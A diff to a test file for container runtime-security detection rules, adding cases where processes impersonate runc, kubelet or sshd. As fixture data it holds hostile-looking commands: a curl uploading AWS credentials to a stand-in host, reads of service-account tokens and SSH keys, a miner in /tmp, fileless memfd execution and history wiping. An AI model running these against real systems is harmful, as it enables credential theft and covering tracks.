@@ -22,9 +22,9 @@ const IMAGE = 'registry.example.com/shop/web:1.4';
 const inImage = (ev: Event__Output, image = IMAGE): Event__Output => ({ ...ev, container: ev.container!.id ? { ...ev.container!, image } : ev.container });
 
 /** A file access by `exe argv`, pid `pid` (in-namespace `nsPid`). */
-function access(exe: string, argv: string[], f: Partial<FileAccess__Output>, o: { pid?: number; nsPid?: number; containerId?: string } = {}): Event__Output {
+function access(exe: string, argv: string[], f: Partial<FileAccess__Output>, o: { pid?: number; nsPid?: number; containerId?: string; comm?: string } = {}): Event__Output {
   const ev = fileEvent(f, { pid: o.pid ?? 700, containerId: o.containerId });
-  return inImage({ ...ev, process: { ...ev.process!, exe, argv, comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15), ns_pid: o.nsPid ?? o.pid ?? 700 } });
+  return inImage({ ...ev, process: { ...ev.process!, exe, argv, comm: o.comm ?? exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15), ns_pid: o.nsPid ?? o.pid ?? 700 } });
 }
 
 /** The container as the engine knows it: its entrypoint (pid 500, ns pid 1) ran these programs. */
@@ -46,6 +46,10 @@ describe('rule binary-not-in-image', () => {
       ['an image binary modified in place (copied up)', exec('/bin/ls', ['ls'], { binary: { layer: 'LAYER_UPPER', name: 'ls' } })],
       ['a downloaded script made executable, run by an image interpreter', exec('/tmp/x.sh', ['/tmp/x.sh'], { binary: { layer: 'LAYER_LOWER', name: 'busybox' }, script: { layer: 'LAYER_UPPER', name: 'x.sh' }, interpreter: '/bin/sh' })],
       ['a binary in an emptyDir /tmp', exec('/tmp/xmrig', ['/tmp/xmrig'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'xmrig' } })],
+      // Names a process gives itself: only the runtime's own parent makes an exec the runtime's.
+      ['a dropped binary named runc', exec('/tmp/runc', ['/tmp/runc'], { binary: { layer: 'LAYER_UPPER', name: 'runc' } })],
+      ['a dropped binary calling itself runc', exec('/usr/local/bin/x', ['runc', 'init'], { comm: 'runc:[2:INIT]', binary: { layer: 'LAYER_UPPER', name: 'x' } })],
+      ['a dropped runc under a shell', { ...exec('/usr/local/bin/runc', ['runc', 'init'], { binary: { layer: 'LAYER_UPPER', name: 'runc' } }), ancestry: [proc(40, '/bin/sh', ['sh'])] }],
     ]);
   });
   test('not: image binaries and image scripts, the host, build images, volumes outside scratch dirs', () => {
@@ -54,6 +58,8 @@ describe('rule binary-not-in-image', () => {
       ['an image script', exec('/usr/local/bin/docker-entrypoint.sh', ['docker-entrypoint.sh'], { binary: { layer: 'LAYER_LOWER', name: 'bash' }, script: { layer: 'LAYER_LOWER', name: 'docker-entrypoint.sh' }, interpreter: '/bin/bash' })],
       ['the host', execEvent({ filename: '/usr/local/bin/new-tool', binary: { layer: 'LAYER_NOT_OVERLAY', name: 'new-tool' } })],
       ['an image builder', inImage(exec('/kaniko/executor', ['/kaniko/executor'], { binary: { layer: 'LAYER_UPPER', name: 'executor' } }), 'gcr.io/kaniko-project/executor:v1.23.0')],
+      ['a CI agent, named as containerd names Docker Hub images', inImage(exec('/home/jenkins/agent/build/app', ['./app'], { binary: { layer: 'LAYER_UPPER', name: 'app' } }), 'docker.io/jenkins/inbound-agent:3206.vb_15dcf73f6a_9-1')],
+      ['docker-in-docker by its full name', inImage(exec('/usr/local/bin/built', ['built'], { binary: { layer: 'LAYER_UPPER', name: 'built' } }), 'docker.io/library/docker:27-dind-rootless')],
       ['a binary on a mounted volume', exec('/opt/tools/run', ['/opt/tools/run'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'run' } })],
       ['a layer that could not be read', exec('/bin/true', ['true'], { binary: { layer: 'LAYER_UNKNOWN', name: 'true' } })],
     ]);
@@ -66,11 +72,14 @@ describe('rule fileless-execution', () => {
       ['memfd through /proc/self/fd', execEvent({ filename: '/proc/self/fd/3', argv: ['[kworker/0:1]'], binary: { memfd: true, links: 0, layer: 'LAYER_NOT_OVERLAY', name: 'memfd:x' }, viaFd: true })],
       ['execveat on a memfd in a container', inImage(execEvent({ filename: '/dev/fd/4', argv: ['sshd'], containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:' }, viaFd: true }))],
       ['a binary deleted after it was opened', execEvent({ filename: '/tmp/.x', argv: ['/tmp/.x'], binary: { deleted: true, links: 0, name: '.x' } })],
+      // The memfd's name and the process's names are the caller's to choose.
+      ['a memfd named as runc names its sealed copy', inImage(execEvent({ filename: '/proc/self/fd/3', argv: ['runc', 'init'], comm: 'runc:[2:INIT]', containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' }, viaFd: true }))],
+      ['the same under a shell that calls itself runc', { ...execEvent({ filename: '/proc/self/fd/3', argv: ['crun'], binary: { memfd: true, links: 0, name: 'memfd:crun' }, viaFd: true }), ancestry: [proc(41, '/bin/sh', ['runc'])] }],
     ]);
   });
   test('not: runc and crun running their sealed copy, files on disk run through an fd', () => {
     silent(filelessExecution, [
-      ['runc init', execEvent({ filename: '/proc/self/exe', argv: ['runc', 'init'], comm: 'runc:[2:INIT]', binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' } })],
+      ['runc init', { ...execEvent({ filename: '/proc/self/exe', argv: ['runc', 'init'], comm: 'exe', binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' } }), ancestry: [proc(30, '/usr/sbin/runc', ['runc', '--root', '/run/containerd/runc/k8s.io', 'create'])] }],
       ['a plain binary', execEvent({ filename: '/usr/bin/env' })],
       ['fexecve of a file on disk', execEvent({ filename: '/dev/fd/3', argv: ['tool'], viaFd: true, binary: { links: 1, name: 'tool' } })],
     ]);
@@ -87,6 +96,8 @@ describe('rule service-account-token-read', () => {
       ['a python one-liner in a python app', access('/usr/bin/python3.11', ['python3', '-c', `print(open("${token}").read())`], { path: token }, { containerId: CONTAINER_ID, pid: 902, nsPid: 19 }), workload('/usr/bin/python3.11')],
       ['the projected token path', access('/bin/busybox', ['head', '/var/run/secrets/tokens/vault'], { path: '/var/run/secrets/tokens/vault', watched: '/var/run/secrets/tokens/' }, { containerId: CONTAINER_ID, pid: 903, nsPid: 20 }), workload('/app/server')],
       ['another pod\'s token on the node', access('/usr/bin/find', ['find', '/var/lib/kubelet/pods', '-name', 'token', '-exec', 'cat', '{}', ';'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
+      ['the same by a copy named kubelet', access('/tmp/kubelet', ['kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
+      ['the same by a process calling itself kubelet or runc', access('/usr/bin/python3', ['kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' }, { comm: 'runc:[2:INIT]' })],
     ]);
   });
   test('not: the entrypoint, its workers, the kubelet, a failed open, a write', () => {
@@ -96,6 +107,7 @@ describe('rule service-account-token-read', () => {
       ['the kubelet mounting the volume', access('/usr/bin/kubelet', ['/usr/bin/kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
       ['a failed open', access('/bin/cat', ['cat', token], { path: token, result: -2 }, { containerId: CONTAINER_ID, pid: 904, nsPid: 21 }), workload('/app/server')],
       ['a write', access('/bin/cat', ['cat', token], { path: token, access: 'ACCESS_WRITE' }, { containerId: CONTAINER_ID, pid: 905, nsPid: 22 }), workload('/app/server')],
+      ['an entrypoint reading its namespace (no secret)', access('/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/namespace'], { path: '/var/run/secrets/kubernetes.io/serviceaccount/namespace' }, { containerId: CONTAINER_ID, pid: 907, nsPid: 24 }), workload('/app/server')],
     ]);
   });
 });
@@ -107,12 +119,15 @@ describe('rule credentials-read-in-container', () => {
       ['an SSH private key', access('/usr/bin/base64', ['base64', '/root/.ssh/id_ed25519'], { path: '/root/.ssh/id_ed25519', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 911, nsPid: 31 }), workload('/app/server')],
       ['the kubelet\'s kubeconfig through a host mount', access('/bin/sh', ['sh'], { path: '/etc/kubernetes/kubelet.conf', watched: '/etc/kubernetes/', category: 'kubelet-credentials' }, { containerId: CONTAINER_ID, pid: 912, nsPid: 32 }), workload('/app/server')],
       ['AWS credentials', access('/usr/bin/curl', ['curl', '-F', 'f=@/root/.aws/credentials', 'https://x.example'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 913, nsPid: 33 }), workload('/app/server')],
+      ['an SSH key read by a process calling itself sshd', access('/bin/cat', ['sshd', '/root/.ssh/id_rsa'], { path: '/root/.ssh/id_rsa', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 914, nsPid: 34, comm: 'sshd' }), workload('/app/server')],
+      ['an SSH key read by a copy named sshd', access('/tmp/sshd', ['/tmp/sshd'], { path: '/root/.ssh/id_rsa', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 915, nsPid: 35 }), workload('/app/server')],
     ]);
   });
   test('not: the workload reading what it was given, an SSH server reading its keys, the host, tokens (their own rule)', () => {
     silent(credentialsReadInContainer, [
       ['the app reading its cloud credentials', access('/app/server', ['/app/server'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 500, nsPid: 1 }), workload('/app/server')],
       ['sshd reading its host key', access('/usr/sbin/sshd', ['sshd: [accepted]'], { path: '/etc/ssh/ssh_host_ed25519_key', watched: '/etc/ssh/ssh_host_', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 920, nsPid: 40 }), workload('/usr/bin/supervisord')],
+      ['the app under tini reading what it was given', { ...access('/app/server', ['/app/server'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 501, nsPid: 7 }), ancestry: [proc(500, '/sbin/tini', ['tini', '--', '/app/server'])] }, workload('/sbin/tini', '/app/server')],
       ['login on the host', access('/usr/sbin/sshd', ['sshd'], { path: '/etc/shadow', watched: '/etc/shadow', category: 'shadow' })],
       ['a token', access('/bin/cat', ['cat', 'token'], {}, { containerId: CONTAINER_ID, pid: 921, nsPid: 41 }), workload('/app/server')],
     ]);
@@ -130,12 +145,16 @@ describe('rule shell-history-cleared', () => {
       ['a python one-liner', access('/usr/bin/python3', ['python3', '-c', 'open("/root/.bash_history","w")'], hist('ACCESS_TRUNCATE'))],
       ['an empty file moved over it', access('/bin/mv', ['mv', '/tmp/empty', '/root/.bash_history'], { ...hist('ACCESS_REPLACE'), call: 'CALL_RENAME', other_name: '/tmp/empty' })],
       ['renamed away', access('/bin/mv', ['mv', '/root/.bash_history', '/tmp/h'], { ...hist('ACCESS_DELETE'), call: 'CALL_RENAME', other_name: '/tmp/h' })],
+      ['a shell script truncating it', access('/bin/bash', ['bash', '/tmp/clean.sh'], hist('ACCESS_TRUNCATE'))],
+      ['commands piped into bash -s', access('/bin/bash', ['bash', '-s'], hist('ACCESS_TRUNCATE'))],
+      ['a login shell running a script', access('/bin/bash', ['bash', '-l', '-O', 'extglob', '/tmp/clean.sh'], hist('ACCESS_REPLACE'))],
       ['zsh history removed in a container', access('/bin/rm', ['rm', '/home/ana/.zsh_history'], { ...hist('ACCESS_DELETE'), path: '/home/ana/.zsh_history', watched: '/home/*/.zsh_history' }, { containerId: CONTAINER_ID })],
     ]);
   });
   test('not: an interactive shell saving its history, appends, failures, other files', () => {
     silent(shellHistoryCleared, [
       ['bash saving history on exit', access('/bin/bash', ['-bash'], hist('ACCESS_TRUNCATE'))],
+      ['an interactive login shell saving', access('/bin/bash', ['bash', '-l', '-i', '-o', 'vi'], hist('ACCESS_TRUNCATE'))],
       ['zsh rewriting its history', access('/usr/bin/zsh', ['zsh'], { ...hist('ACCESS_TRUNCATE'), path: '/home/ana/.zsh_history' })],
       // bash 5 (readline 8 histfile.c) writes .bash_history-PID.tmp and renames it over the file: the old name goes, the file is replaced.
       ['bash 5 saving: its copy renamed away', access('/bin/bash', ['-bash'], { ...hist('ACCESS_DELETE'), path: '/root/.bash_history-01234.tmp', call: 'CALL_RENAME', other_name: '/root/.bash_history' })],
